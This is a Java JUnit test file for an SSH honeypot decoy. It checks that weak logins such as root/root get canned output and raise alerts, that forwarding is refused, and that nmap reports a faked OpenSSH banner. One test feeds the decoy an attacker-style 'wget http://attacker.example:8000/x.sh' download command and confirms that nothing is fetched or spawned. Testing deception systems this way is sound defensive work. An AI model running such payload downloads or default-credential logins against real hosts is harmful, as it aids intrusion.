package dev.moat.decoy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The SSH decoy against the real OpenSSH client, with passwords given through sshpass (both Debian packages). */
class SshDecoyTest {

  private final List<Alert> alerts = new CopyOnWriteArrayList<>();
  private SshDecoy decoy;

  @BeforeEach
  void start(@TempDir Path state) throws IOException {
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/ssh")) && Files.isExecutable(Path.of("/usr/bin/sshpass")),
        "needs the OpenSSH client and sshpass (apt-get install openssh-client sshpass, as .ci/run does)");
    decoy = new SshDecoy(new DecoyIdentity("bastion", "ssh", null, null), alerts::add, Clock.systemUTC(), SshDecoy.DEFAULT_CREDENTIALS,
        state.resolve("host-key"));
    decoy.start("127.0.0.1", 0);
  }

  @AfterEach
  void stop() throws IOException {
    if (decoy != null) {
      decoy.close();
    }
  }

  private Process ssh(String user, String password, String... command) throws IOException {
    List<String> argv = new ArrayList<>(List.of("sshpass", "-p", password, "ssh", "-F", "/dev/null", "-p", String.valueOf(decoy.boundPort()),
        "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password",
        "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", "-o", "LogLevel=ERROR", user + "@127.0.0.1"));
    argv.addAll(List.of(command));
    return new ProcessBuilder(argv).redirectErrorStream(true).start();
  }

  private static String finish(Process p) throws Exception {
    assertThat(p.waitFor(60, TimeUnit.SECONDS)).as("ssh finished").isTrue();
    return new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
  }

  @Test
  void anExecRequestWithAWeakPasswordGetsCannedOutputAndAlerts() throws Exception {
    assertThat(finish(ssh("root", "root", "id"))).isEqualTo("uid=0(root) gid=0(root) groups=0(root)\n");
    assertThat(alerts).extracting(Alert::action).containsExactly("ssh.login_success", "ssh.command");
    assertThat(alerts.get(0).fields()).containsEntry("username", "root").containsEntry("password", "root");
    assertThat(alerts.get(0).mitreTechnique()).isEqualTo("T1078");
    assertThat(alerts.get(1).fields()).containsEntry("command", "id");
    assertThat(alerts.get(0).sourceIp()).isEqualTo("127.0.0.1");
  }

  @Test
  void aWrongPasswordIsRefusedAndAlerts() throws Exception {
    Process p = ssh("root", "hunter2", "id");
    String out = finish(p);
    assertThat(p.exitValue()).isNotZero();
    assertThat(out).contains("Permission denied");
    assertThat(alerts).extracting(Alert::action).contains("ssh.login_failed").doesNotContain("ssh.login_success", "ssh.command");
    assertThat(alerts.get(0).severity()).isEqualTo(AlertSeverity.LOW);
  }

  @Test
  void anInteractiveSessionAnswersFromTheFakeFilesystemAndNeverFetchesOrSpawns() throws Exception {
    Process p = ssh("root", "root", "-T");
    p.getOutputStream().write("whoami\ncd /etc\npwd\ncat hostname\nwget http://attacker.example:8000/x.sh\nperl -e 1\n".getBytes(StandardCharsets.UTF_8));
    p.getOutputStream().flush();
    // While the session is open: the only processes below this JVM are the client ones the test started.
    Thread.sleep(1500);
    Set<Long> client = clientTree(p);
    assertThat(ProcessHandle.current().descendants().map(ProcessHandle::pid).filter(pid -> !client.contains(pid)).collect(Collectors.toList()))
        .as("processes spawned by the decoy").isEmpty();
    p.getOutputStream().write("exit\n".getBytes(StandardCharsets.UTF_8));
    p.getOutputStream().close();
    String out = finish(p);
    assertThat(out).contains("root@app-prod-02:~# ").contains("root\n").contains("/etc\n").contains("root@app-prod-02:/etc# ")
        .contains("app-prod-02\n").contains("wget: unable to resolve host address 'attacker.example'")
        .contains("-bash: perl: command not found");
    assertThat(alerts).filteredOn(a -> a.action().equals("ssh.download")).singleElement()
        .satisfies(a -> assertThat(a.fields()).containsEntry("url", "http://attacker.example:8000/x.sh"));
    assertThat(alerts).filteredOn(a -> a.action().equals("ssh.command")).hasSize(7);
  }

  @Test
  void portForwardingIsRefusedAndAlerts() throws Exception {
    // a remote forward asks the server to listen at once (a local one only on first use)
    Process r = ssh("admin", "admin", "-o", "ExitOnForwardFailure=yes", "-R", "0:127.0.0.1:22", "id");
    finish(r);
    assertThat(r.exitValue()).isNotZero();
    assertThat(alerts).extracting(Alert::action).contains("ssh.login_success", "ssh.forwarding").doesNotContain("ssh.command");
  }

  @Test
  void nmapServiceDetectionNamesUbuntuOpenSsh() throws Exception {
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/nmap")), "needs nmap (apt-get install nmap)");
    Process p = new ProcessBuilder("nmap", "-sV", "-Pn", "-n", "-p", String.valueOf(decoy.boundPort()), "127.0.0.1").redirectErrorStream(true).start();
    String out = finish(p);
    assertThat(out).containsPattern("open\\s+ssh\\s+OpenSSH 8\\.9p1 Ubuntu 3ubuntu0\\.6");
  }

  private static Set<Long> clientTree(Process p) {
    Set<Long> pids = p.descendants().map(ProcessHandle::pid).collect(Collectors.toSet());
    pids.add(p.pid());
    return pids;
  }
}
